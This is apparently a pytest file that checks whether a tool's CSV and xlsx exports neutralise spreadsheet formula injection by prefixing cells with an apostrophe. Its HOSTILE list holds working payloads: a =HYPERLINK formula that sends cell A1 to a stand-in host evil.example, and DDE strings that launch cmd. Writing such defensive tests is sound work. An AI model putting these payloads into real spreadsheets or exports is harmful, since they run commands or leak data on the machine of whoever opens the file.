"""Every CSV kbflow writes opens as text in a spreadsheet: a cell that starts like a formula (= + - @, tab, CR)
gets a leading apostrophe, as the xlsx keeps such cells as text."""

from __future__ import annotations

import csv
import json
import random

import openpyxl
import pytest

from tasks.answer.questions import load_questions
from tasks.cells import FORMULA_START, csv_cell, csv_text
from tasks.dataset.pairs import raft_example, write_dataset
from tasks.report.write import write_report
from tests.tasks.report.test_write import passage, row

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the answer")'
HOSTILE = [
    HYPERLINK,
    "+49 89 2015 4470",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_cells(path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def opens_as_formula(cell: str) -> bool:
    """What a spreadsheet would run: a cell starting with a formula character that is not a plain number."""
    return cell.startswith(FORMULA_START) and csv_cell(cell) != cell


@pytest.mark.unit
@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+49 89 2015 4470", "'+49 89 2015 4470"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("+3.5e2", "+3.5e2"),
        ("14 days", "14 days"),
        ("'quoted'", "'quoted'"),
        ("", ""),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_written_as_text_and_reads_back_as_it_was(text, written):
    assert csv_cell(text) == written
    assert csv_text(written) == text


@pytest.mark.unit
@pytest.mark.parametrize("value", [None, 3, -2.5, True])
def test_cells_that_are_not_text_are_written_as_they_are(value):
    assert csv_cell(value) == value


@pytest.mark.unit
def test_answers_csv_and_both_xlsx_sheets_keep_hostile_text_as_text(tmp_path):
    rows = [
        row(
            f"h{n}",
            text,  # a question from the user's file
            text,  # the model's answer (a document can lead it to copy this)
            citations=[{"source": "evil.txt", "page": None}],
            retrieved=[passage("evil.txt", None, 1, text)],
            expected_answer=text,
            input=(("id", f"h{n}"), ("question", text), ("=notes", text)),
        )
        for n, text in enumerate(HOSTILE)
    ]
    before = tmp_path / "before"
    write_report(
        [{**r, "answer": "Not found."} for r in rows], before, top_k=1, model="m", embedding_model="e", mode="hybrid"
    )
    out = tmp_path / "after"
    write_report(rows, out, top_k=1, model="m", embedding_model="e", mode="hybrid", previous=before)

    header, *body = csv_cells(out / "answers.csv")
    assert header[:3] == ["id", "question", "'=notes"]
    cells = [cell for line in [header, *body] for cell in line]
    assert [c for c in cells if opens_as_formula(c)] == []
    by_id = {line[0]: dict(zip(header, line)) for line in body}
    for n, text in enumerate(HOSTILE):
        shown = by_id[f"h{n}"]
        assert shown["question"] == shown["answer"] == shown["'=notes"] == shown["expected_answer"] == "'" + text

    book = openpyxl.load_workbook(out / "answers.xlsx")
    assert book.sheetnames == ["answers", "Changes"]
    for sheet in book.worksheets:
        written = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
        assert all(cell.data_type != "f" for cell in written), sheet.title
        assert HYPERLINK in [cell.value for cell in written], sheet.title  # the text itself, unchanged


@pytest.mark.unit
def test_a_datasets_questions_csv_keeps_hostile_text_as_text_and_kbflow_reads_it_back(tmp_path):
    chunk = {"chunk_id": "c1", "source": "@evil.md", "page": None, "text": HYPERLINK}
    held = [
        raft_example(
            {"question": text, "answer": text}, chunk, [], n_distractors=0, with_gold=True, rng=random.Random(0)
        )
        for text in HOSTILE
    ]
    write_dataset([], held, tmp_path, "sharegpt")
    header, *body = csv_cells(tmp_path / "questions.csv")
    assert [c for line in body for c in line if opens_as_formula(c)] == []
    assert [line[1] for line in body] == ["'" + t for t in HOSTILE] and {line[3] for line in body} == {"'@evil.md"}
    questions = load_questions(tmp_path / "questions.csv")
    assert [(q.question, q.expected_answer, q.expected_source) for q in questions] == [
        (t.strip(), t.strip(), "@evil.md")
        for t in HOSTILE  # the loader strips every cell, the tab and CR too
    ]
    assert json.loads((tmp_path / "eval.jsonl").read_text(encoding="utf-8").splitlines()[0])  # JSONL stays as is
